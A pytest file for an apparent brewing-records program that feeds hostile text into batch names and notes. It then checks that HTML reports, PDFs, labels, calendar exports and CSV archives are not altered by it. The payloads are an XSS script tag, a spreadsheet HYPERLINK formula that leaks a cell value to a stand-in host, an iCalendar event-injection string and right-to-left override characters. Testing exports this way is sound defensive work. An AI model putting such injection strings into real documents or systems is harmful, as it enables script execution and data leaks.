"""One pantry full of hostile words, and every way in which its words leave it.

Each name and note is markup, writing from right to left, ten thousand signs, a formula, or lines
of a calendar. A pantry that is the same but for plain words is the measure: the same elements in
HTML, the same entries in the calendar, the same rows and columns in each table. All are invented.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
from dataclasses import dataclass, replace
from datetime import UTC, timedelta
from html.parser import HTMLParser
from pathlib import Path
from zipfile import ZipFile

import pytest
import vobject

from brewdesk.printing.sheetpainter import LabelJob, SheetPainter
from brewdesk.services.bottlingwish import BottleGroupWish
from brewdesk.services.exporting import export_everything
from brewdesk.services.importing import import_export
from brewdesk.services.labels import label_content
from brewdesk.services.labelsheets import starters
from brewdesk.services.paperhtml import html_of
from brewdesk.services.processlog import process_log
from brewdesk.services.records import BottleKind, Look, Method, Quantity, ReadingDraft
from brewdesk.services.wording.processlog import process_document
from brewdesk.widgets.documentdialog import write_document_pdf
from brewdesk.widgets.printlabels import LabelPages, write_pdf
from brewdesk.widgets.reports import batch_document
from brewdesk.widgets.theme import FAMILY, load_fonts
from tests.helpers.pantry_desk import open_desk, souring_batch
from tests.helpers.paper import codes_on, page_of, pages_of
from tests.helpers.whole_pantry import everything

PLAIN = "Plain words"
HOSTILE = {
    "markup": "</title></td><script>alert(1)</script><img src=x onerror=alert(1)>&lt;{name}%1 ",
    "right to left": "\u202eתה שחור ‏ طعم\u202c 12 ",
    "ten thousand signs": "endless " * 1250,
    "formula": '=HYPERLINK("http://x.invalid?"&A1,"press") ',
    "calendar": "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:evil\r\nSUMMARY:y ",
}
NAME_LENGTH, NOTE_LENGTH, REMINDER_LENGTH = 70, 10_000, 500


@dataclass(frozen=True)
class Left:
    """What left a pantry: each text as a stranger's program reads it."""

    folder: Path
    reports: tuple[str, ...]
    store: Path


@pytest.fixture(scope="module")
def leave(tmp_path_factory, qapp):
    load_fonts()
    made: dict[str, Left] = {}

    def make(words: str) -> Left:
        if words not in made:
            made[words] = _leave(tmp_path_factory.mktemp("hostile"), words)
        return made[words]

    return make


def _leave(folder: Path, words: str) -> Left:
    desk = open_desk(folder, with_forecasts=True)  # and jobs that are done at once
    name = f"{words[:NAME_LENGTH].strip()} 1"
    batch = souring_batch(desk, name, f"{words[: NAME_LENGTH - 20].strip()} 2")
    note = (words * (NOTE_LENGTH // len(words) + 1))[:NOTE_LENGTH]
    values = {"batch_id": batch.id, "at": desk.clock.now()}
    desk.readings.record(
        [
            ReadingDraft(quantity=Quantity.PH, method=Method.METER, value=3.2, **values),
            ReadingDraft(quantity=Quantity.NOTE, method=Method.EYE, text=note, **values),
        ]
    )
    desk.readings.record_look(batch.id, Look.UNSURE, note)
    own = words[:REMINDER_LENGTH]
    desk.reminders.add_own(batch.id, desk.clock.now() + timedelta(days=1), own)
    groups = (BottleGroupWish(bottle_count=3, kind=BottleKind.RATED, brim_volume_l=0.5,
                              rated_bar=8.0, name=name),)  # fmt: skip
    wish = replace(desk.bottlings.wish_for(batch.id), groups=groups, name=name, note=note)
    desk.bottlings.fill(wish, override_reason=note)
    now, show = desk.clock.now(), desk.quantities.show
    log = process_document(process_log(desk.door, now - timedelta(days=30), now), show, UTC)
    documents = (batch_document(desk, batch.id), log)
    for number, document in enumerate(documents):
        assert write_document_pdf(document, folder / f"report{number}.pdf")
    _print_labels(desk, folder / "labels.pdf", words)
    desk.calendar.export(folder / "due.ics")
    export_everything(
        desk.store_path, folder / "all.brewdesk-export.zip", now=now, program="0.test"
    )
    left = Left(folder, tuple(html_of(each) for each in documents), desk.store_path)
    desk.store.close()
    return left


def _print_labels(desk, path: Path, words: str) -> None:
    sources = desk.label_sources
    facts = (*sources.jars(), *sources.bottlings(), *sources.batches(), *sources.cultures())
    labels = tuple(
        label_content(
            replace(each, allergens=words, ingredients=words),
            zone=UTC,
            pantry_uid=desk.store.info.uid,
        )
        for each in facts
    )
    assert len(labels) == 4
    sheet = next(sheet for sheet in starters() if sheet.key == "a4_2x4")
    painter = SheetPainter(LabelJob(sheet=sheet, labels=labels), FAMILY)
    assert write_pdf(LabelPages(painter, "Labels"), path)


class _Elements(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.kinds: set[str] = set()
        self.attributes: set[str] = set()
        self.words = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.kinds.add(tag)
        self.attributes |= {name for name, _value in attrs}

    def handle_data(self, data):
        self.words += data


hostile = pytest.mark.parametrize("words", HOSTILE.values(), ids=HOSTILE.keys())


@hostile
def test_reports_have_no_other_elements_than_with_plain_words(leave, words):
    for plain, odd in zip(leave(PLAIN).reports, leave(words).reports, strict=True):
        expected, found = _Elements(plain), _Elements(odd)
        assert found.kinds == expected.kinds
        assert found.attributes == expected.attributes
        assert "script" not in found.kinds
        seen = "".join(found.words.translate(_STEERING).split())
        assert "".join(words[:NAME_LENGTH].translate(_STEERING).split()) in seen


_STEERING = dict.fromkeys(map(ord, "\u202a\u202b\u202c\u202d\u202e"))


@hostile
def test_reports_on_paper_keep_their_pages(leave, words):
    left = leave(words)
    assert pages_of(left.folder / "report0.pdf") == 1
    text = subprocess.run(
        ["pdftotext", str(left.folder / "report0.pdf"), "-"], check=True, capture_output=True
    ).stdout.decode()
    assert "Batch report" in text
    assert "Page 1 of 1" in text


@hostile
def test_labels_keep_their_places_and_their_codes(leave, words):
    page = page_of(leave(words).folder / "labels.pdf", 150)
    found = [code.split(":")[1] for code in codes_on(page)]
    assert sorted(found) == ["batch", "bottling", "culture", "vessel"]


@hostile
def test_the_calendar_has_its_own_entries_and_no_others(leave, words):
    def entries(left):
        text = (left.folder / "due.ics").read_bytes().decode("utf-8")
        return list(vobject.readOne(text).vevent_list)

    plain, odd = entries(leave(PLAIN)), entries(leave(words))
    assert len(odd) == len(plain)
    assert all(
        set(one.contents) == set(other.contents) for one, other in zip(plain, odd, strict=True)
    )
    assert "evil" not in {entry.uid.value for entry in odd}


@hostile
def test_tables_have_their_rows_and_columns_and_no_cell_is_a_formula(leave, words):
    def tables(left):
        with ZipFile(left.folder / "all.brewdesk-export.zip") as archive:
            return {name: archive.read(name) for name in archive.namelist()}

    plain, odd = tables(leave(PLAIN)), tables(leave(words))
    assert odd.keys() == plain.keys()
    for name in odd:
        if name.endswith(".csv"):
            rows = list(csv.reader(io.StringIO(odd[name].decode("utf-8-sig"), newline="")))
            expected = list(csv.reader(io.StringIO(plain[name].decode("utf-8-sig"), newline="")))
            assert [len(row) for row in rows] == [len(row) for row in expected]
            cells = [cell for row in rows for cell in row]
            assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
        if name.endswith(".jsonl"):
            assert len(odd[name].splitlines()) == len(plain[name].splitlines())
            assert all(json.loads(line) is not None for line in odd[name].splitlines())


@hostile
def test_the_way_out_and_in_keeps_every_word(leave, words, tmp_path):
    left = leave(words)
    target = tmp_path / "in.brewdesk"
    import_export(left.folder / "all.brewdesk-export.zip", target, now=_now_of(left))
    assert everything(target) == everything(left.store)


def _now_of(left: Left):
    from datetime import datetime

    with ZipFile(left.folder / "all.brewdesk-export.zip") as archive:
        return datetime.fromisoformat(json.loads(archive.read("manifest.json"))["made_at"])
